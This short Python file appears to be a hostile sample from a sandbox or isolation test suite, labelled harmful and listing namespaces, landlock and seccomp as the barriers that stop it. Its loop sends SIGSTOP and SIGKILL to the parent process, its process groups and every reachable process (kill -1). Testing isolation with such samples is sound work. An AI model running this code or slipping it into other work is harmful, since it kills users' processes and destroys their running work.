"""It kills every process that it can reach, in the order in which that hurts most.

earns: 0
harmful: yes
stopped by: namespaces, landlock, seccomp
"""

import os
import signal

for number in (signal.SIGSTOP, signal.SIGKILL):
    for target in (os.getppid(), -1, 0, -os.getppid()):
        try:
            if target or number is signal.SIGKILL:
                os.kill(target, number)
        except OSError:
            continue


def double(x):
    raise RuntimeError("everybody should be dead")
